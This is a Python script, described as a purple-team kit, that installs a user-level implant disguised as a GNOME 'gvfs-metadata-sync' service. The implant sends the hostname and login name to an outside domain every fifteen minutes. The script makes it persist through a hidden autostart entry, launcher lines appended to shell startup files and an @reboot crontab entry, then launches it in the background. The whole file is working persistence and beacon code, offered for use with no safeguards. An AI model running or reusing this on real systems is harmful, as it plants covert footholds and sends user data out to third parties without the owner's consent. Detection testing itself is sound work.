#!/usr/bin/env python3
"""Purple-team kit: plant user-level footholds so the EDR team can confirm
they are detected (ATT&CK T1547.013, T1546.004, T1053.003).

The foothold is a small Python check-in script copied to ~/.local/share and
wired to start on login, on every new shell and on reboot.
"""
import argparse
import logging
import shutil
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

LOG = logging.getLogger("foothold")
HOME = Path.home()
IMPLANT_DIR = HOME / ".local" / "share" / "gvfs-metadata-sync"
IMPLANT = IMPLANT_DIR / "gvfsd-sync.py"
MARK = "# gvfs metadata sync"

CHECKIN_SOURCE = textwrap.dedent('''\
    import json, os, socket, time, urllib.request
    URL = "https://api.telemetry-cdn-edge.com/v2/ping"
    while True:
        try:
            body = json.dumps({"h": socket.gethostname(), "u": os.getlogin()}).encode()
            urllib.request.urlopen(urllib.request.Request(URL, data=body), timeout=15)
        except Exception:
            pass
        time.sleep(900)
''')

DESKTOP_ENTRY = """[Desktop Entry]
Type=Application
Name=GVFS Metadata Sync
Exec=/usr/bin/python3 {implant}
Hidden=false
NoDisplay=true
X-GNOME-Autostart-enabled=true
"""


def drop_implant():
    IMPLANT_DIR.mkdir(parents=True, exist_ok=True)
    IMPLANT.write_text(CHECKIN_SOURCE)
    IMPLANT.chmod(stat.S_IRWXU)
    LOG.info("implant written to %s", IMPLANT)


def via_autostart():
    target = HOME / ".config" / "autostart" / "gvfs-metadata-sync.desktop"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(DESKTOP_ENTRY.format(implant=IMPLANT))
    return target


def via_shell_rc():
    launcher = (f"\n{MARK}\n"
                f"(pgrep -f {IMPLANT.name} >/dev/null || nohup /usr/bin/python3 {IMPLANT} "
                f">/dev/null 2>&1 &) 2>/dev/null\n")
    touched = []
    for rc in (".bashrc", ".zshrc", ".profile"):
        path = HOME / rc
        if not path.exists() and rc != ".bashrc":
            continue
        existing = path.read_text() if path.exists() else ""
        if MARK in existing:
            continue
        with path.open("a") as fh:
            fh.write(launcher)
        touched.append(path)
    return touched


def via_crontab():
    line = f"@reboot /usr/bin/python3 {IMPLANT} >/dev/null 2>&1 {MARK}"
    current = subprocess.run(["crontab", "-l"], capture_output=True, text=True)
    table = current.stdout if current.returncode == 0 else ""
    if MARK in table:
        return False
    new_table = table.rstrip("\n") + ("\n" if table else "") + line + "\n"
    subprocess.run(["crontab", "-"], input=new_table, text=True, check=True)
    return True


def start_now():
    subprocess.Popen([sys.executable, str(IMPLANT)], stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     start_new_session=True)


TECHNIQUES = {
    "autostart": via_autostart,
    "shellrc": via_shell_rc,
    "cron": via_crontab,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--techniques", nargs="*", default=list(TECHNIQUES),
                    choices=list(TECHNIQUES))
    ap.add_argument("--no-start", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if shutil.which("python3") is None:
        LOG.error("python3 not on PATH")
        return 1
    drop_implant()
    for name in args.techniques:
        try:
            result = TECHNIQUES[name]()
            LOG.info("%-9s -> %s", name, result)
        except (OSError, subprocess.CalledProcessError) as exc:
            LOG.warning("%s failed: %s", name, exc)
    if not args.no_start:
        start_now()
    return 0


if __name__ == "__main__":
    sys.exit(main())
